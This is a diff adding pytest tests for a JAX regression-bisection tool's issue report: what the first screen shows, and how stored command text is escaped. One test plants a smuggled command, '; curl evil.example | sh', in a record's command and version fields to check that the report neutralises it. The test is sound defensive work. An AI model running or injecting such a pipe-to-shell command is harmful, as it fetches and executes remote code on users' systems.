@@ -127,3 +127,111 @@ def test_the_investigation_report_escapes_what_it_was_given():
     assert "<img" not in markdown and "<script>" not in markdown and "\\| \\*bold\\*" in markdown
     assert "````bash" in markdown  # a fence longer than the command's own backticks
     assert "<img" not in page and "&lt;img" in page and "<script>" not in page
+
+
+# ------------------------------------------------------------------------------------------------ the first screen
+# of a stored investigation: threefry became partitionable by default in jax 0.5.0 (a lowering change)
+
+PROGRAMS = __import__("pathlib").Path(__file__).parent / "programs" / "retrace"
+
+
+@pytest.fixture(scope="module")
+def lowering(tmp_path_factory):
+    """A store with rng@1 and its bisection between 0.4.38 and 0.5.0 (retraced: the first bad release 0.5.0)."""
+    import quick
+
+    from reprobundle import api
+
+    store = tmp_path_factory.mktemp("lowering") / "store"
+    api.pack_script(str(PROGRAMS / "rng.py"), name="rng", store=str(store), **quick.PACK)
+    result, _ = api.bisect("rng", "0.4.38", "0.5.0", store=str(store), warmup=1, repeat=2, rounds=1)
+    assert (result.mode, result.first_bad) == ("retrace", "0.5.0")
+    return store
+
+
+def _visible(body: str) -> list:
+    """The Markdown tokens outside every <details> block (what a reader sees before expanding anything)."""
+    depth, shown = 0, []
+    for token in MarkdownIt("commonmark").enable("table").parse(body):
+        if token.type in ("html_block", "html_inline"):
+            depth += token.content.count("<details>") - token.content.count("</details>")
+            continue
+        if depth == 0:
+            shown.append(token)
+    return shown
+
+
+def _stored_values(store):
+    """The first output of the stored runs of 0.4.38 and 0.5.0 (retraced), as numpy arrays."""
+    import numpy as np
+
+    registry = Registry.open(str(store))
+    bundle = registry.resolve("rng")
+    out = {}
+    for run in registry.runs(bundle.ref.bundle_id):
+        if run["contender"]["mode"] == "retrace" and run.get("outputs"):
+            leaf = run["outputs"][0]
+            out[run["environment"]["jax"]] = np.frombuffer(registry.get_blob(leaf["blob"]), np.float32)
+    return out
+
+
+@pytest.mark.crossversion
+def test_the_first_screen_says_what_broke_against_the_last_good_release_and_no_ids(lowering):
+    code, out, err = cli("issue", "rng", "--json", store=lowering)
+    assert code == 0, err
+    data = json.loads(out)
+    body = data["body"]
+    assert data["title"] == ("`_lambda_` gives other values from jax 0.5.0 (last good 0.4.38; JAX's lowering): 64 of "
+                             "64 elements of output 0 (float32[64]) differ")
+    first = body.splitlines()[:30]
+    text = "\n".join(first)
+    assert "gives other values from jax 0.5.0" in first[0]  # the title
+    values = _stored_values(lowering)
+    expected, got = (", ".join(f"{float(x):.7g}" for x in values[v][:4]) for v in ("0.4.38", "0.5.0"))
+    assert "**Expected** (jax 0.4.38, last good), output 0" in text and expected in text
+    assert f"**Got** (jax 0.5.0): {got}" in text
+    assert "**Where:** JAX's lowering" in text and "rng.py:8" in text  # the cause as far as it is known
+    assert "**Reproducer:** `python rng-1.py` exits 1 on jax 0.5.0 and 0 on jax 0.4.38" in text
+    # nothing a maintainer does not act on before the collapsed part: no ids, no tool commands
+    answer = data["bisection"]["answer_id"]
+    ids = [answer] + [r["run_id"] for r in data["replay"]["runs"]]
+    for token in _visible(body):
+        for piece in [token.content] + [c.content for c in token.children or []]:
+            assert not any(i in piece for i in ids), piece
+            assert "reprobundle " not in piece and "asked again" not in piece, piece
+    assert not any(i in body for i in ids)  # nor anywhere in the body
+    # judged against the last good release, never "mismatch" against the packing release's reference
+    assert "jax 0.4.38 retraced: outputs as jax 0.4.38's (last good)" in body and "mismatch" not in body
+    # each list once, and no flag of another platform as a candidate in a CPU report
+    assert body.count("shift\\_right\\_logical") == 1
+    assert "jax\\_threefry\\_partitionable" in body and "xla\\_gpu" not in body
+    # the reporter's notes are on the terminal: the replay reported and the question asked again
+    code, printed, err = cli("issue", "rng", store=lowering)
+    assert code == 0 and "reprobundle bisect rng --good 0.4.38 --bad 0.5.0 --retrace" in printed, err
+    assert all(i in printed.split("\n\n", 1)[0] for i in ids[1:])
+
+
+@pytest.mark.crossversion
+def test_a_hostile_answer_records_command_reaches_neither_the_body_nor_the_terminal(lowering, tmp_path):
+    import shlex
+    import shutil
+
+    store = tmp_path / "store"
+    shutil.copytree(lowering, store)
+    registry = Registry.open(str(store))
+    bundle = registry.resolve("rng")
+    record = registry.answers(bundle.ref.bundle_id)[-1]
+    evil = "; curl evil.example | sh"
+    record = {**record, "answer_id": Registry.new_run_id(), "command": f"reprobundle bisect rng{evil}",
+              "answer": {**record["answer"], "good": "0.4.38" + evil}}
+    registry.put_answer(record)
+    code, out, err = cli("issue", "rng", "--json", store=store)
+    assert code == 0, err
+    body = json.loads(out)["body"]
+    assert "reprobundle bisect rng; curl" not in body  # the record's command text: never shown
+    assert "curl evil.example | sh" not in body and "curl evil.example \\| sh" in body  # its field: text, escaped
+    code, printed, err = cli("issue", "rng", store=store)
+    line = next(x for x in printed.splitlines() if x.startswith("Asked again with: "))
+    words = shlex.split(line[len("Asked again with: "):])
+    assert words[:5] == ["reprobundle", "bisect", "rng", "--good", "0.4.38" + evil]  # one quoted word
+    assert "reprobundle bisect rng; curl" not in printed
